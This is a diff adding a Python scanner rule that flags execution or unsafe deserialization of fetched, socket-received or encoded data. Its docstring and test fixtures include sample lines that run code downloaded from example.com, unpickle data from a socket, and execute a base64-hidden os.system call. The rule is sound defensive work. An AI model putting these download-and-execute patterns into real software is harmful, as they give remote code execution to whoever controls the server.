@@ -1,0 +1,161 @@
+"""DS101 exec-of-untrusted-payload: code execution or unsafe deserialization of fetched, received or decoded data."""
+
+from __future__ import annotations
+
+import libcst as cst
+
+from datasec_scan.model import Category, Confidence, Severity
+from datasec_scan.rule import Example, Rule
+
+from ._remote import (DECODED, ENV, FILE, LABEL_TEXT, NETWORK, SOCKET, USER, Analyzer, code_of, python_payload,
+                      snippet)
+
+_SEVERITY = {NETWORK: Severity.CRITICAL, SOCKET: Severity.CRITICAL, DECODED: Severity.HIGH, ENV: Severity.MEDIUM,
+             FILE: Severity.LOW, USER: Severity.LOW}
+_CONFIDENCE = {NETWORK: Confidence.HIGH, SOCKET: Confidence.HIGH, DECODED: Confidence.MEDIUM, ENV: Confidence.MEDIUM,
+               FILE: Confidence.LOW, USER: Confidence.LOW}
+_HIDING = {"concat"}  # a plain concatenation of readable strings hides nothing
+_RISKY_FILES = ("setup.py", "__init__.py", "sitecustomize.py", "usercustomize.py", "conftest.py")
+
+
+class ExecOfUntrustedPayload(Rule):
+    """Code execution or unsafe deserialization of data fetched from the network or hidden in an encoded literal.
+
+    ## What it does
+    Finds `exec`, `eval`, `compile`, `runpy.run_path`, `types.FunctionType`, `pickle.loads`,
+    `marshal.loads`, `dill`/`cloudpickle`/`joblib` loads and `yaml.load` with an unsafe loader,
+    and asks where their argument comes from. The severity follows that provenance:
+
+    - data fetched with `requests`, `httpx`, `urllib`, `http.client`, `aiohttp`, read from a
+      socket or a DNS TXT record: **critical**;
+    - a literal the code decodes first (base64/32/85, hex, zlib/gzip/bz2/lzma, rot13, reversal,
+      `chr`-joins, `\\x` escapes, XOR loops, Fernet with a literal key): **high**; the decoded
+      payload is parsed and scanned, and what it does is reported at the literal;
+    - an environment variable: **medium**; a local file or command-line input: **low**;
+    - a constant: nothing (`exec("1+1")` is not a backdoor).
+
+    Names are resolved through aliases and dynamic tricks (`getattr(builtins, 'ex'+'ec')`,
+    `__import__('marshal').loads`, `globals()['eval']`), and data is followed through variables
+    and helper functions of the same module.
+
+    ## Why is this bad?
+    Executing what a server sends turns every machine running the package into a remote-controlled
+    agent of whoever controls that server (or its DNS). Encoding the executed code hides it from
+    review, which legitimate code has no reason to do. `pickle`, `marshal` and unsafe YAML run code
+    chosen by whoever wrote the bytes.
+
+    ## Example
+    ```python
+    import base64, requests, zlib
+    exec(requests.get("https://example.com/stage2").text)
+    exec(zlib.decompress(base64.b64decode("eJzLzE3NVSguLikqTU4FABbkBBc=")))
+    ```
+
+    ## How to fix
+    Do not execute downloaded or encoded code. Ship the code in the package, in the clear; parse
+    data with `json` or `yaml.safe_load`; use `ast.literal_eval` for Python literals.
+
+    ## References
+    - CWE-94: Improper Control of Generation of Code ('Code Injection')
+    - CWE-502: Deserialization of Untrusted Data
+    - CWE-506: Embedded Malicious Code
+    - MITRE ATT&CK T1059.006 (Python), T1027 (Obfuscated Files or Information), T1105 (Ingress Tool Transfer)
+    """
+
+    code = "DS101"
+    name = "exec-of-untrusted-payload"
+    category = Category.REMOTE_ACCESS
+    severity = Severity.HIGH
+    confidence = Confidence.MEDIUM
+    cwe = (94, 502, 506)
+    attack = ("T1059.006", "T1027", "T1105")
+    triggers = ("exec", "eval", "compile", "loads", "load(", "load_all", "FunctionType", "run_path", "runsource",
+                "Unpickler", "getattr", "__import__", "import_module", "globals", "\\x", "chr(", "b64decode")
+    VALID = (
+        "exec('x = 1 + 1')\n",
+        "import ast\nvalue = ast.literal_eval(text)\n",
+        "import yaml\ncfg = yaml.safe_load(open('cfg.yml'))\n",
+        "import json, requests\ndata = json.loads(requests.get('https://example.com/x').text)\n",
+    )
+    INVALID = (
+        "import requests\nexec(requests.get('https://example.com/p').text)\n",
+        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n",
+        "import socket, pickle\ns = socket.create_connection(('203.0.113.5', 4444))\nobj = pickle.loads(s.recv(65536))\n",
+        "import urllib.request, marshal, types\n"
+        "f = types.FunctionType(marshal.loads(urllib.request.urlopen('https://example.com/c').read()), {})\n",
+        Example("import os\neval(os.environ['HOOK'])\n"),
+    )
+
+    def __init__(self, context) -> None:
+        super().__init__(context)
+        self._handled: set[int] = set()
+
+    def visit_Call(self, node: cst.Call) -> None:
+        if id(node) in self._handled:
+            return
+        an = Analyzer.of(self.context)
+        sink = an.exec_sink(node)
+        if sink is None:
+            return
+        kind, qualified, arg = sink
+        # exec(compile(src)), types.FunctionType(marshal.loads(b)): one finding, at the outer call, about the inner data.
+        while isinstance(arg, cst.Call):
+            inner = an.exec_sink(arg)
+            if inner is None:
+                break
+            self._handled.add(id(arg))
+            if inner[0] == "deserialize":
+                kind = "deserialize"
+                qualified = f"{qualified}({inner[1]})"
+            arg = inner[2]
+        self._check(node, kind, qualified, arg, an)
+
+    def _check(self, node: cst.Call, kind: str, qualified: str, arg: cst.BaseExpression, an: Analyzer) -> None:
+        sink = qualified.replace("builtins.", "")
+        sources = {label: src for label, src in an.sources(arg).items() if label in _SEVERITY}
+        peeled = an.decoded(arg)
+        payload = python_payload(peeled, an.context.limits.max_decoded_bytes if an.context.limits else 1_000_000)
+        hidden = peeled is not None and bool(set(peeled.layers) - _HIDING) and not peeled.limited
+        nested = 0
+        if kind == "code" and payload is not None and peeled is not None:
+            anchor = an.payload_literal(arg)
+            nested = self.context.scan_nested(payload, anchor, peeled.how if peeled.layers else "string literal")
+        elif peeled is not None and peeled.limited:
+            hidden = True
+        if hidden and DECODED not in sources:
+            sources[DECODED] = None  # type: ignore[assignment]
+        if not sources and kind == "deserialize" and peeled is not None and "marshal" in qualified:
+            sources[DECODED] = None  # type: ignore[assignment]  # marshal of a literal: hidden code objects
+        if not sources:
+            return
+        label = max(sources, key=lambda lab: (_SEVERITY[lab], lab))
+        severity, confidence = _SEVERITY[label], _CONFIDENCE[label]
+        secrets: tuple[str, ...] = ()
+        if label == DECODED and peeled is not None:
+            if kind == "code":
+                if payload is None:
+                    shown = f"{len(peeled.data)} bytes" + (f", {peeled.limited}" if peeled.limited else "")
+                    message = f"{sink} of a payload decoded from {peeled.how} ({shown})"
+                else:
+                    text, secrets = snippet(payload)
+                    message = f"{sink} of Python code hidden by {peeled.how}: `{text}`"
+                    confidence = Confidence.HIGH
+            else:
+                message = f"{sink} of a {len(peeled.data)}-byte literal payload" + (
+                    f" decoded from {peeled.how}" if peeled.layers else "") + "; loading it runs the code it carries"
+                confidence = Confidence.HIGH if "marshal" in qualified else Confidence.MEDIUM
+        else:
+            message = f"{sink} runs {LABEL_TEXT[label]}"
+            if kind == "deserialize":
+                message = f"{sink} deserializes {LABEL_TEXT[label]}; loading it runs code chosen by its author"
+        others = sorted(set(sources) - {label}, key=lambda lab: -_SEVERITY[lab])
+        if others:
+            message += " (also: " + ", ".join(LABEL_TEXT[o] for o in others) + ")"
+        if nested:
+            message += f"; the payload itself has {nested} finding{'s' if nested != 1 else ''}"
+        if severity >= Severity.HIGH and (nested or self.context.filename in _RISKY_FILES or len(sources) > 1):
+            confidence = Confidence.HIGH
+        src = sources[label]
+        flow = (src.steps if src is not None else ((an.payload_literal(arg), f"payload: `{code_of(arg)}`"),))
+        self.report(node, message, severity=severity, confidence=confidence,
+                    flow=flow + ((node, f"sink: {sink}"),), secrets=secrets)
